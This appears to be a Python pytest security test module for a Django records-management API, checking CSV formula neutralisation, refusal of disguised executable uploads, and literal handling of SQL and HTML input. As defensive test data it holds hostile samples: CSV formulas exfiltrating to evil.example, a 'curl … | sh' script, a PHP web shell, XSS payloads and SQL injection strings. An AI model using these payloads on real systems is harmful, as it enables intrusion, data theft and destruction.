"""Security tests, part 4: what users type and upload.

* CSV injection: every CSV export (found in the schema: the operations whose ``format``
  parameter offers ``csv``) neutralises cells that a spreadsheet would run as a formula (a
  leading ``=``, ``+``, ``-``, ``@``, tab or carriage return), wherever the text came from.
* Uploads: an executable or a script dressed as a scan (an allowed extension and the type the
  client claims) is refused; an accepted scan is served with the type the server sniffed.
* SQL and HTML in every text field a user writes is stored and read back exactly as typed, and
  served as JSON (never text/html, whatever the client accepts); searches with SQL in them find
  nothing instead of everything; the label and the destruction certificate (PDF) print such
  text literally, without running it as markup.
"""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from drf_spectacular.generators import SchemaGenerator
from rest_framework.test import APIClient

from strongroom.accounts import roles
from strongroom.accounts.models import Unit
from strongroom.accounts.tests.factories import TEST_PASSWORD
from strongroom.compliance.models import AuditEvent
from strongroom.core.tests.test_security import PDF, World, signed, world_build
from strongroom.records.models import Attachment, Crate
from strongroom.records.tests.pdf_inspect import pdf_text
from strongroom.requests.models import Request

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SQL = "x'); DROP TABLE records_crate; --"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
MARKUP = "<b>bold</b> &amp; <font color=red>red</font> (x) \\ %PDF"
PAYLOADS = [SQL, HTML, MARKUP, "' OR '1'='1", '" OR ""="', "{{7*7}} ${7*7} %s%n"]


@pytest.fixture
def world(roles_synced: None, units: tuple[Unit, Unit]) -> World:
    return world_build(units)


def _csv_exports() -> list[str]:
    schema = SchemaGenerator().get_schema(request=None, public=True)
    found = []
    for path, item in schema["paths"].items():
        for method, operation in item.items():
            if method != "get":
                continue
            for parameter in operation.get("parameters", []):
                if parameter["name"] == "format" and "csv" in parameter["schema"].get("enum", []):
                    found.append(path)
    return found


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_exports_are_found_in_the_schema() -> None:
    assert set(_csv_exports()) == {
        "/api/v1/audit-events/",
        "/api/v1/reports/inventory/",
        "/api/v1/reports/overdue/",
        "/api/v1/reports/destruction-schedule/",
        "/api/v1/reports/activity/",
        "/api/v1/retention/forecast.csv",
        "/api/v1/audit-reviews/coverage/",
        "/api/v1/inventory-audits/{id}/report.csv",
    }


def test_every_csv_export_neutralises_formulas(world: World) -> None:
    goa = world.goa
    admin = world.client(world.sysadmin)
    manager = goa.user(roles.DOCUMENT_MANAGER)
    # Into the records: descriptions, a name, a purpose, a reason and a user agent.
    for crate, formula in zip(
        (goa.crate, goa.free_crate, goa.held_crate),
        (FORMULAS[0], FORMULAS[1], FORMULAS[3]),
        strict=True,
    ):
        Crate.objects.filter(pk=crate.pk).update(description=formula)
    Crate.objects.filter(pk=goa.free_crate.pk).update(destroy_after=dt.date(2020, 1, 1))
    Request.objects.filter(pk=goa.withdrawal.pk).update(purpose=FORMULAS[1])
    assert (
        admin.patch(f"/api/v1/users/{manager.pk}/", {"full_name": FORMULAS[2]}).status_code == 200
    )
    sent_back = world.client(goa.user(roles.APPROVER)).post(
        f"/api/v1/requests/{goa.withdrawal.pk}/send-back/",
        signed(goa.withdrawal.version, reason=FORMULAS[4]),
        HTTP_USER_AGENT=FORMULAS[5],
    )
    assert sent_back.status_code == 200, sent_back.content
    overdue = Request.objects.filter(unit=goa.unit, type="WITHDRAWAL").first()
    assert overdue is not None

    # An inventory audit whose one scan read a formula (recorded as an unknown code).
    from strongroom.inventory.services import audit_open, audit_scan

    storehead = goa.user(roles.STORE_HEAD)
    audit = audit_open(actor=storehead, scope_id=goa.shelf.pk)
    audit_scan(actor=storehead, audit_id=audit.pk, shelf_id=goa.shelf.pk, code=FORMULAS[0])

    exports = _csv_exports()
    cells: list[str] = []
    for path in exports:
        rows = _rows(admin.get(path.replace("{id}", str(audit.pk)), {"format": "csv"}))
        assert len(rows) >= 1, path
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path, cell)
            cells.extend(row)
    text = "\n".join(cells)
    # Each formula is there, defused with a leading quote (the test is not vacuous); the API
    # trims the whitespace around a typed reason, so "\t=1+1" arrives as "=1+1".
    for formula in FORMULAS:
        assert f"'{formula}" in text or f"'{formula.strip()}" in text, repr(formula)


def test_the_neutraliser_covers_every_dangerous_first_character() -> None:
    from strongroom.core.csv_export import neutralise

    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    for safe in ("1+1", "GOA1-QA-2026-000001-8", "", None, 42, "a=b"):
        assert not neutralise(safe).startswith(FORMULA_STARTS)


# --- uploads --------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"PE\x00\x00"
    + b"\x00" * 60
)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 60
JAVA = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60
GIF_SCRIPT = b"GIF89a/*<script>alert(1)</script>*/"
DISGUISES = {
    "elf.pdf": ELF,
    "pe.pdf": PE,
    "script.pdf": SHELL,
    "page.pdf": HTML_PAGE,
    "php.pdf": PHP,
    "jar.pdf": ZIP,
    "class.pdf": JAVA,
    "elf.png": ELF,
    "pe.jpg": PE,
    "script.jpeg": SHELL,
    "page.tif": HTML_PAGE,
    "svg.png": SVG,
    "gif.jpg": GIF_SCRIPT,
    "setup.exe.pdf": PE,
    "run.sh.pdf": SHELL,
}
CLAIMED = {"pdf": "application/pdf", "png": "image/png", "jpg": "image/jpeg"}


@pytest.mark.parametrize("name", sorted(DISGUISES))
def test_an_executable_or_script_dressed_as_a_scan_is_refused(world: World, name: str) -> None:
    manager = world.client(world.goa.user(roles.DOCUMENT_MANAGER))
    claimed = CLAIMED.get(name.rsplit(".", 1)[-1], "application/pdf")
    before = Attachment.objects.count()
    response = manager.post(
        f"/api/v1/documents/{world.goa.document.pk}/attachments/",
        {"file": SimpleUploadedFile(name, DISGUISES[name], content_type=claimed)},
        format="multipart",
    )
    assert response.status_code == 400, (name, response.content)
    assert response["Content-Type"] == "application/json"
    assert response.json()["error"]["code"] == "file_type_mismatch", name
    assert Attachment.objects.count() == before


def test_a_scan_is_served_with_the_sniffed_type_not_the_claimed_one(world: World) -> None:
    manager = world.client(world.goa.user(roles.DOCUMENT_MANAGER))
    response = manager.post(
        f"/api/v1/documents/{world.goa.document.pk}/attachments/",
        {"file": SimpleUploadedFile("scan.pdf", PDF + b"claimed", content_type="text/html")},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    assert response.json()["content_type"] == "application/pdf"
    download = manager.get(response.json()["download_url"], HTTP_ACCEPT="text/html")
    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment;")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]


# --- what users type ----------------------------------------------------------------------------


def _json(response: Any, status: int = 200) -> Any:
    assert response.status_code == status, response.content
    assert response["Content-Type"] == "application/json", response["Content-Type"]
    return response.json()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sql_and_html_in_every_text_field_are_stored_and_served_as_typed(
    world: World, payload: str
) -> None:
    goa = world.goa
    admin = world.client(world.sysadmin)
    unit_admin = world.client(goa.user(roles.UNIT_ADMIN))
    manager = world.client(goa.user(roles.DOCUMENT_MANAGER))
    approver = world.client(goa.user(roles.APPROVER))
    store = world.client(goa.user(roles.STORE_HEAD))
    read: list[tuple[str, str, Any]] = []  # (what, path, expected) read back afterwards

    unit = _json(admin.patch(f"/api/v1/units/{goa.unit.pk}/", {"address": payload}))
    read.append(("unit address", f"/api/v1/units/{goa.unit.pk}/", ("address", payload)))
    assert unit["address"] == payload
    _json(unit_admin.patch(f"/api/v1/departments/{goa.department.pk}/", {"name": payload}))
    read.append(("department", f"/api/v1/departments/{goa.department.pk}/", ("name", payload)))
    target = goa.people["target"]
    _json(unit_admin.patch(f"/api/v1/users/{target.pk}/", {"full_name": payload}))
    read.append(("full name", f"/api/v1/users/{target.pk}/", ("full_name", payload)))
    shelf = goa.spare_shelf
    _json(
        store.patch(f"/api/v1/locations/{shelf.pk}/", {"version": shelf.version, "name": payload})
    )
    read.append(("location", f"/api/v1/locations/{shelf.pk}/", ("name", payload)))

    storage = _json(
        manager.post(
            "/api/v1/requests/",
            {
                "type": "STORAGE",
                "purpose": payload,
                "department": goa.department.pk,
                "description": payload[:300],
                "new_documents": [
                    {
                        "number": "SEC-0001",
                        "title": payload,
                        "doc_type": world.doc_type.code,
                        "prepared_on": "2026-01-01",
                        "retention_until": "2036-01-01",
                    }
                ],
                "signature": {"password": TEST_PASSWORD},
            },
        ),
        201,
    )
    read.append(("purpose", f"/api/v1/requests/{storage['id']}/", ("purpose", payload)))
    read.append(("description", f"/api/v1/crates/{storage['crate']}/", ("description", payload)))
    crate = _json(manager.get(f"/api/v1/crates/{storage['crate']}/"))
    document = crate["documents"][0]
    read.append(("title", f"/api/v1/documents/{document['id']}/", ("title", payload)))
    sent = _json(
        approver.post(
            f"/api/v1/requests/{storage['id']}/send-back/",
            signed(storage["version"], reason=payload),
        )
    )
    assert sent["send_backs"][0]["reason"] == payload
    hold = _json(
        unit_admin.post(
            f"/api/v1/crates/{goa.free_crate.pk}/hold/",
            signed(goa.free_crate.version, reason=payload),
        )
    )
    assert hold["legal_hold_reason"] == payload
    read.append(
        ("hold reason", f"/api/v1/crates/{goa.free_crate.pk}/", ("legal_hold_reason", payload))
    )

    for what, path, (field, expected) in read:
        body = _json(world.client(world.sysadmin).get(path))
        assert body[field] == expected, what
        as_html = world.client(world.sysadmin).get(path, HTTP_ACCEPT="text/html")
        assert as_html["Content-Type"] == "application/json", (what, as_html["Content-Type"])
        assert b"<script>" not in as_html.content or b'"' in as_html.content  # JSON, not a page
    events = AuditEvent.objects.filter(reason=payload)
    assert events.exists()
    audit = _json(admin.get("/api/v1/audit-events/", {"search": payload[:50]}))
    assert all(isinstance(row["reason"], str) for row in audit["results"])
    # Rendered nowhere as a page: every answer above was application/json.


def test_a_nul_character_is_refused_not_a_server_error(world: World) -> None:
    admin = world.client(world.sysadmin)
    response = admin.patch(f"/api/v1/units/{world.goa.unit.pk}/", {"name": "bad\x00name"})
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/crates/",
        "/api/v1/documents/",
        "/api/v1/requests/",
        "/api/v1/users/",
        "/api/v1/audit-events/",
        "/api/v1/locations/",
        "/api/v1/units/",
        "/api/v1/departments/",
    ],
)
def test_sql_in_a_search_finds_nothing_instead_of_everything(world: World, path: str) -> None:
    client = world.client(world.sysadmin)
    everything = _json(client.get(path))["results"]
    assert everything, path
    for payload in ("' OR '1'='1", "%' OR 1=1 --", '" OR ""="', "') OR ('a'='a", "*:* | !x & (y"):
        results = _json(client.get(path, {"search": payload}))["results"]
        assert results == [], (path, payload)
    ordered = client.get(path, {"ordering": "password"})
    assert ordered.status_code == 200


def test_labels_and_certificates_print_typed_markup_literally(world: World) -> None:
    goa = world.goa
    Crate.objects.filter(pk__in=[goa.crate.pk, goa.destroyed_crate.pk]).update(
        description=MARKUP[:60]
    )
    Request.objects.filter(pk=goa.destruction.pk).update(purpose=MARKUP)
    client = world.client(goa.user(roles.DOCUMENT_MANAGER))
    label = client.get(f"/api/v1/crates/{goa.crate.pk}/label.pdf")
    assert label.status_code == 200
    assert label["Content-Type"] == "application/pdf"
    assert "<b>bold</b>" in pdf_text(label.content)
    certificate = client.get(f"/api/v1/requests/{goa.destruction.pk}/certificate.pdf")
    assert certificate.status_code == 200, certificate.content
    assert certificate["Content-Type"] == "application/pdf"
    # reportlab draws the text in pieces (one string per word or entity): compare without spaces.
    text = pdf_text(certificate.content).replace(" ", "")
    for literal in ("<b>bold</b>", "&amp;", "<fontcolor=red>red</font>", "(x)", "%PDF"):
        assert literal in text, literal


def test_pdf_endpoints_answer_errors_as_json(world: World) -> None:
    """A PDF endpoint's error is the JSON envelope, not a body labelled application/pdf."""
    client = world.client(world.goa.user(roles.DOCUMENT_MANAGER))
    for path in (
        f"/api/v1/requests/{world.goa.withdrawal.pk}/certificate.pdf",  # not a destruction
        f"/api/v1/crates/{world.mum.crate.pk}/label.pdf",  # another unit's
    ):
        response = client.get(path, HTTP_ACCEPT="application/pdf")
        assert response.status_code == 404
        assert response["Content-Type"] == "application/json", path
        assert "error" in response.json()
    csv_error = world.client(world.goa.user(roles.VIEWER)).get(
        "/api/v1/reports/inventory/", {"format": "csv", "unit": "not-a-number"}
    )
    assert csv_error.status_code == 400
    assert csv_error["Content-Type"] == "application/json"
    assert csv_error.json()["error"]["code"] == "validation_error"


def test_unknown_api_urls_answer_the_json_envelope() -> None:
    for path in ("/api/v1/signatures/-1/", "/api/v1/no-such-thing/", "/api/v2/"):
        response = APIClient().get(path)
        assert response.status_code == 404, path
        assert response["Content-Type"] == "application/json", path
        assert response.json()["error"]["code"] == "not_found"
